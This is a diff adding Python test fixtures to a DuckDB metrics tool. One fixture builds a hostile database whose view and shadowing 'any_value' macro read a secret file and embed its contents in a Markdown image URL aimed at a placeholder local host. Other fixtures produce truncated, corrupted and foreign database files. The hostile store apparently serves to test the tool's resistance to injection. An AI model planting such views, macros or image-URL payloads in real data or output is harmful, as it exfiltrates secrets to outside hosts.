@@ -51,3 +51,72 @@ def raw_tables(db: Path) -> dict[str, pd.DataFrame]:
                           "query_metrics", "rankings")}
     finally:
         con.close()
+
+
+#: Markdown that would load a remote image if a name were rendered as Markdown.
+LEAK = "![x](http://127.0.0.1:9/leak)"
+#: What the injected store's secret file holds.
+SECRET = "S3CRET-7f1c2a-do-not-show"
+
+
+def build_injected(folder: Path, secret_file: Path) -> Path:
+    """A hostile copy of the fixture store (``folder/injected.duckdb``).
+
+    Its ``class_metrics`` view reads ``secret_file`` with ``read_text`` and
+    puts it into a Markdown image URL; a macro named ``any_value`` (which
+    shadows the built-in on a plain connection) does the same; class and
+    dataset names carry ``LEAK``.
+    """
+    secret_file.write_text(SECRET)
+    db = build_fixture(folder)
+    injected = folder / "injected.duckdb"
+    db.rename(injected)
+    leak_url = "'![s](http://127.0.0.1:9/?' || (SELECT content FROM read_text('{}')) || ')'"
+    leak_url = leak_url.format(str(secret_file).replace("'", "''"))
+    con = duckdb.connect(str(injected))
+    try:
+        con.execute(f"UPDATE items SET class_name = '{LEAK} ' || class_name")
+        con.execute(f"UPDATE datasets SET name = '{LEAK} ' || name")
+        con.execute(f"""CREATE OR REPLACE VIEW class_metrics AS
+            SELECT qm.run_id, qm.iteration, i.label, {leak_url} AS class_name,
+                   count(*) AS n_queries, avg(qm.ap) AS map
+            FROM query_metrics qm JOIN runs r USING (run_id)
+            JOIN sweeps s USING (sweep_id)
+            JOIN items i ON i.dataset_id = s.dataset_id AND i.side = 'query'
+                        AND i.idx = qm.query_idx
+            GROUP BY ALL""")
+        con.execute(f"CREATE MACRO any_value(x) AS {leak_url}")
+    finally:
+        con.close()
+    return injected
+
+
+def corrupt_copies(db: Path, folder: Path) -> dict[str, Path]:
+    """Damaged and foreign stores beside each other in ``folder`` (``*.duckdb`` names).
+
+    Returns:
+        kind -> path: ``truncated`` (half the file), ``flipped`` (bytes
+        inverted every 997 past the headers), ``foreign`` (a DuckDB file
+        with ``schema_info`` and ``runs`` tables of its own), ``sqlite``
+        (a SQLite database), ``text`` (not a database).
+    """
+    import sqlite3
+
+    data = db.read_bytes()
+    out = {k: folder / f"{k}.duckdb" for k in ("truncated", "flipped", "foreign", "sqlite",
+                                                 "text")}
+    out["truncated"].write_bytes(data[: len(data) // 2])
+    flipped = bytearray(data)
+    for i in range(12288, len(flipped), 997):
+        flipped[i] ^= 0xFF
+    out["flipped"].write_bytes(bytes(flipped))
+    con = duckdb.connect(str(out["foreign"]))
+    con.execute("CREATE TABLE schema_info (version INTEGER); INSERT INTO schema_info VALUES (1);"
+                "CREATE TABLE runs (id INTEGER, status VARCHAR)")
+    con.close()
+    lite = sqlite3.connect(out["sqlite"])
+    lite.execute("CREATE TABLE runs (run_id INTEGER)")
+    lite.commit()
+    lite.close()
+    out["text"].write_text("hello\n")
+    return out
